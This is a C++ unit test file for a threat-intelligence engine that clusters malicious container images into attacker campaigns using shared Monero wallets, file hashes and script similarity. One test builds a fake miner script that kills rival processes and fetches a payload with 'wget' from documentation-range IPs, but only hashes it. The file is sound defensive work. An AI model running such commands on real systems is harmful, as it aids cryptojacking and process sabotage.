#include "intel/campaigns.h"

#include <gtest/gtest.h>

#include "format/similarity_hash.h"
#include "intel/generated_set_test_support.h"
#include "intel/observations.h"

namespace lazaret::intel {
namespace {

class CampaignsTest : public testing::Test {
 protected:
  CampaignsTest() : store_(std::move(*store::open_sqlite_indicator_store(""))), campaigns_(*store_, [this] { return ++now_; }) {}

  static Digest named(const std::string& name) { return sha256(as_bytes(name)); }
  ImageFacts facts(const std::string& name, const std::string& publisher, bool bad, std::vector<store::Observation> observations) {
    ImageFacts image;
    image.digest = named(name);
    image.places.push_back({publisher, publisher + "/" + name, 1});
    image.bad = bad;
    image.verdict = bad ? "malicious" : "clean";
    image.first_seen = ++now_;
    image.observations = std::move(observations);
    tidy(image.observations);
    return image;
  }
  Placement learn(const std::string& name, const std::string& publisher, bool bad, std::vector<store::Observation> observations) {
    auto placed = campaigns_.learn(facts(name, publisher, bad, std::move(observations)));
    EXPECT_TRUE(placed.ok());
    return placed.ok() ? *placed : Placement();
  }
  std::int64_t campaign_of(const std::string& name) {
    const auto placed = campaigns_.placement(named(name));
    return placed.ok() ? placed->campaign : -1;
  }
  std::string name_of(const std::string& name) { return named(name).str(); }

  std::int64_t now_ = 1000;
  std::unique_ptr<store::IndicatorStore> store_;
  Campaigns campaigns_;
};

const store::Observation wallet{"wallet.monero", "4wallet", true}, other_wallet{"wallet.monero", "4other", true};

TEST_F(CampaignsTest, ASharedWalletLinksTwoAccountsAndSaysSo) {
  EXPECT_EQ(learn("a", "eve", true, {wallet}).campaign, 0);
  const Placement placed = learn("b", "mallory", true, {wallet});
  EXPECT_NE(placed.campaign, 0);
  EXPECT_EQ(campaign_of("a"), placed.campaign);
  ASSERT_EQ(placed.links.size(), 1u);
  EXPECT_EQ(placed.links[0].score, 100);
  ASSERT_EQ(placed.links[0].reasons.size(), 1u);
  EXPECT_EQ(placed.links[0].reasons[0].value, "4wallet");
  EXPECT_NE(describe(placed).find("wallet 4wallet"), std::string::npos);
}

TEST_F(CampaignsTest, OneMediumIndicatorIsNoLinkAndTwoOfOneFactAreNone) {
  learn("a", "eve", true, {{"port-file", "8220/logo3.jpg", true}, {"login", "x.y", true}});
  EXPECT_EQ(learn("b", "mallory", true, {{"port-file", "8220/logo3.jpg", true}}).campaign, 0);
  learn("c", "carl", true, {{"build-id", "1234", true}, {"miner-file", "5678", true}});
  EXPECT_EQ(learn("d", "dora", true, {{"build-id", "1234", true}, {"miner-file", "5678", true}}).campaign, 0) << "one file twice";
  EXPECT_NE(learn("e", "erik", true, {{"port-file", "8220/logo3.jpg", true}, {"login", "x.y", true}}).campaign, 0) << "two facts";
}

TEST_F(CampaignsTest, TheServerChangedAndTheScriptStayed) {
  std::string script = "#!/bin/sh\n";
  for (int i = 0; i < 30; ++i) script += fmt::format("ps auxf | grep rival{} | xargs kill -9\n", static_cast<char>('a' + i % 26));
  const auto with = [&](const std::string& host) {
    std::vector<store::Observation> observations = {{"script-tlsh", format::similarity_hash(as_bytes(format::script_shape(script + "wget http://" + host + "/m\n" + host.substr(0, 3)))), true}};
    observe_address("http://" + host + ":8220/logo3.jpg", true, observations);
    return observations;
  };
  learn("a", "eve", true, with("192.0.2.1"));
  EXPECT_NE(learn("b", "mallory", true, with("198.51.100.9")).campaign, 0);
}

TEST_F(CampaignsTest, WhatManyInnocentPublishersHaveLinksNothing) {
  const store::Observation layer{"layer", "sha256:base", true};
  for (int i = 0; i < 3; ++i) learn(fmt::format("clean{}", i), fmt::format("team{}", i), false, {layer});
  learn("a", "eve", true, {layer});
  EXPECT_EQ(learn("b", "mallory", true, {layer}).campaign, 0);
}

TEST_F(CampaignsTest, ALinkGoesWhenItsReasonTurnsOutToBeCommon) {
  const store::Observation file{"file-sha256", "tool", true};
  learn("a", "eve", true, {file});
  EXPECT_NE(learn("b", "mallory", true, {file}).campaign, 0);
  for (int i = 0; i < 3; ++i) learn(fmt::format("clean{}", i), fmt::format("team{}", i), false, {file});
  EXPECT_EQ(campaign_of("a"), 0);
  EXPECT_EQ(campaign_of("b"), 0);
  EXPECT_EQ(campaign_of("clean0"), 0);
}

TEST_F(CampaignsTest, ACampaignFallsApartWhereItsBridgeBreaks) {
  const store::Observation bridge{"file-sha256", "tool", true};
  learn("a1", "eve", true, {wallet});
  learn("a2", "eva", true, {wallet});
  learn("b1", "mallory", true, {other_wallet, bridge});
  learn("b2", "mort", true, {other_wallet});
  learn("a3", "evi", true, {wallet, bridge});
  EXPECT_EQ(campaign_of("a1"), campaign_of("b2"));
  for (int i = 0; i < 3; ++i) learn(fmt::format("clean{}", i), fmt::format("team{}", i), false, {bridge});
  EXPECT_NE(campaign_of("a1"), campaign_of("b2"));
  EXPECT_EQ(campaign_of("a1"), campaign_of("a3"));
  EXPECT_EQ(campaign_of("b1"), campaign_of("b2"));
  EXPECT_NE(campaign_of("b1"), 0);
}

TEST_F(CampaignsTest, WhatWasNotConvictedIsAttachedAndTiesNothingTogether) {
  learn("a1", "eve", true, {wallet});
  learn("a2", "eva", true, {wallet});
  learn("b1", "mallory", true, {other_wallet});
  learn("b2", "mort", true, {other_wallet});
  const Placement placed = learn("new", "fresh", false, {{"wallet.monero", "4wallet", false}, {"wallet.monero", "4other", false}});
  EXPECT_NE(placed.campaign, 0);
  EXPECT_FALSE(describe(placed).empty());
  EXPECT_NE(campaign_of("a1"), campaign_of("b1"));
  EXPECT_EQ(learn("friend", "fresh", false, {}).campaign, 0);
}

TEST_F(CampaignsTest, ALaterConvictionFindsWhatWasReleasedBefore) {
  learn("old", "fresh", false, {{"wallet.monero", "4wallet", false}});
  EXPECT_EQ(campaign_of("old"), 0);
  const Placement placed = learn("a", "eve", true, {wallet});
  EXPECT_NE(placed.campaign, 0);
  EXPECT_EQ(campaign_of("old"), placed.campaign);
}

TEST_F(CampaignsTest, AnAccountWithNothingElseIsOneActorAndAMirrorIsNot) {
  learn("a", "eve", true, {});
  EXPECT_NE(learn("b", "eve", true, {}).campaign, 0);
  for (int i = 0; i < 20; ++i) learn(fmt::format("clean{}", i), "mirror", false, {});
  learn("m1", "mirror", true, {});
  EXPECT_EQ(learn("m2", "mirror", true, {}).campaign, 0);
}

TEST_F(CampaignsTest, AnotherVerdictTakesAnImageOutAndKeepsTheOthersTogether) {
  for (const char* name : {"a", "b", "c"}) learn(name, std::string("account-") + name, true, {wallet});
  const std::int64_t campaign = campaign_of("a");
  learn("a", "account-a", false, {});
  EXPECT_EQ(campaign_of("a"), 0);
  EXPECT_EQ(campaign_of("b"), campaign);
  EXPECT_EQ(campaign_of("c"), campaign) << "linked over the one that left";
  ASSERT_TRUE(campaigns_.forget(named("b")).ok());
  EXPECT_EQ(campaign_of("c"), 0) << "one image is no campaign";
}

TEST_F(CampaignsTest, AnAuditThatSaysTheSameChangesNothing) {
  learn("a", "eve", true, {wallet});
  learn("b", "mallory", true, {wallet});
  ASSERT_TRUE(campaigns_.confirm(campaign_of("a"), "kim").ok());
  learn("a", "eve", true, {wallet});
  ASSERT_TRUE(store_->read([&](store::IndicatorReader& reader) {
    EXPECT_EQ(reader.acts_of(reader.node(name_of("a"))->campaign).size(), 4u) << "founded, joined twice, confirmed";
  }).ok());
}

TEST_F(CampaignsTest, SplitHoldsAgainstEverythingThatComesLater) {
  for (const char* name : {"a", "b", "c"}) learn(name, std::string("account-") + name, true, {wallet});
  const std::int64_t campaign = campaign_of("a");
  const auto made = campaigns_.split(campaign, {name_of("c")}, "kim");
  ASSERT_TRUE(made.ok());
  EXPECT_EQ(campaign_of("c"), *made);
  EXPECT_EQ(campaign_of("b"), campaign);
  learn("d", "account-d", true, {wallet});
  EXPECT_EQ(campaign_of("c"), *made);
  EXPECT_EQ(campaign_of("a"), campaign);
  EXPECT_EQ(campaign_of("d"), campaign);
  EXPECT_FALSE(campaigns_.split(campaign, {"sha256:none"}, "kim").ok());
  EXPECT_FALSE(campaigns_.split(campaign, {}, "kim").ok());
  EXPECT_FALSE(campaigns_.split(99, {name_of("a")}, "kim").ok());
}

TEST_F(CampaignsTest, MergeHoldsWhenACampaignIsComputedAnew) {
  const store::Observation file{"file-sha256", "tool", true};
  learn("a1", "eve", true, {wallet});
  learn("a2", "eva", true, {wallet, file});
  learn("a3", "eli", true, {file});
  learn("b1", "mallory", true, {other_wallet});
  learn("b2", "mort", true, {other_wallet});
  const std::int64_t a = campaign_of("a1"), b = campaign_of("b1");
  ASSERT_TRUE(campaigns_.merge(a, b, "kim").ok());
  EXPECT_EQ(campaign_of("b2"), a);
  EXPECT_FALSE(campaigns_.merge(a, b, "kim").ok()) << "they are one already";
  for (int i = 0; i < 3; ++i) learn(fmt::format("clean{}", i), fmt::format("team{}", i), false, {file});
  EXPECT_EQ(campaign_of("b2"), a);
  EXPECT_EQ(campaign_of("a3"), 0);
  ASSERT_TRUE(campaigns_.name(b, "the group", "kim").ok()) << "an old number leads to where it went";
  ASSERT_TRUE(store_->read([&](store::IndicatorReader& reader) { EXPECT_EQ(reader.campaign(a)->name, "the group"); }).ok());
}

TEST_F(CampaignsTest, AConfirmedCampaignStaysWhateverBecomesCommon) {
  const store::Observation file{"file-sha256", "tool", true};
  learn("a", "eve", true, {file});
  learn("b", "mallory", true, {file});
  const std::int64_t campaign = campaign_of("a");
  ASSERT_TRUE(campaigns_.confirm(campaign, "kim").ok());
  for (int i = 0; i < 3; ++i) learn(fmt::format("clean{}", i), fmt::format("team{}", i), false, {file});
  EXPECT_EQ(campaign_of("a"), campaign);
  EXPECT_EQ(campaign_of("b"), campaign);
}

TEST_F(CampaignsTest, KnownIncidentsGrowAndAreNeverJoined) {
  const auto one = campaigns_.learn_incident({"one-2018", "One", "T1496.001", 5, {wallet}});
  const auto two = campaigns_.learn_incident({"two-2019", "Two", "", 6, {other_wallet}});
  ASSERT_TRUE(one.ok() && two.ok());
  const Placement placed = learn("a", "eve", true, {wallet});
  EXPECT_NE(placed.campaign, 0);
  learn("both", "mallory", true, {wallet, other_wallet});
  std::int64_t first = 0, second = 0;
  ASSERT_TRUE(store_->read([&](store::IndicatorReader& reader) {
    first = reader.campaign_of_incident("one-2018")->id;
    second = reader.campaign_of_incident("two-2019")->id;
    EXPECT_EQ(reader.campaign(first)->name, "One");
  }).ok());
  EXPECT_EQ(placed.campaign, first);
  EXPECT_NE(first, second);
  EXPECT_EQ(campaigns_.split(first, {"incident:one-2018"}, "kim").ok(), false);
}

TEST_F(CampaignsTest, ANewIncidentNamesTheImagesThatAreThereAlready) {
  learn("old", "fresh", false, {{"wallet.monero", "4wallet", false}});
  const auto linked = campaigns_.learn_incident({"one-2018", "One", "", 5, {wallet}});
  ASSERT_TRUE(linked.ok());
  EXPECT_EQ(*linked, std::vector<std::string>{name_of("old")});
}

TEST_F(CampaignsTest, AnImageThatSharesThePayloadIsAttachedThoughNothingConvictsIt) {
  learn("a", "eve", true, {{"file-sha256", "payload", true}});
  EXPECT_FALSE(describe(learn("b", "fresh", false, {{"file-sha256", "payload", false}})).empty());
}

TEST_F(CampaignsTest, WhatAnIncidentListsMatchesHoweverManyHaveIt) {
  for (int i = 0; i < 30; ++i) learn(fmt::format("clean{}", i), fmt::format("team{}", i), false, {{"file-sha256", "payload", false}});
  const auto linked = campaigns_.learn_incident({"one-2018", "One", "", 5, {{"file-sha256", "payload", true}}});
  ASSERT_TRUE(linked.ok());
  EXPECT_EQ(linked->size(), 30u);
  EXPECT_FALSE(describe(learn("new", "later", false, {{"file-sha256", "payload", false}})).empty());
}

// A small version of the benchmark's set (bench/campaigns): how well, not how fast.
TEST_F(CampaignsTest, FindsTheCampaignsOfAGeneratedSet) {
  test::GeneratedSet set(30, 1200, 7);
  for (const test::GeneratedImage& image : set.images()) ASSERT_TRUE(campaigns_.learn(image.facts).ok());
  while (*campaigns_.reconsider(100) > 0) {
  }
  std::vector<std::int64_t> found;
  for (const test::GeneratedImage& image : set.images()) found.push_back(campaigns_.placement(image.facts.digest)->campaign);
  const test::Quality quality = test::measure(set.images(), found);
  EXPECT_GE(quality.precision, 0.99) << quality.pairs_right << " of " << quality.pairs_found;
  EXPECT_GE(quality.recall, 0.99) << quality.pairs_right << " of " << quality.pairs_wanted;
}

}  // namespace
}  // namespace lazaret::intel
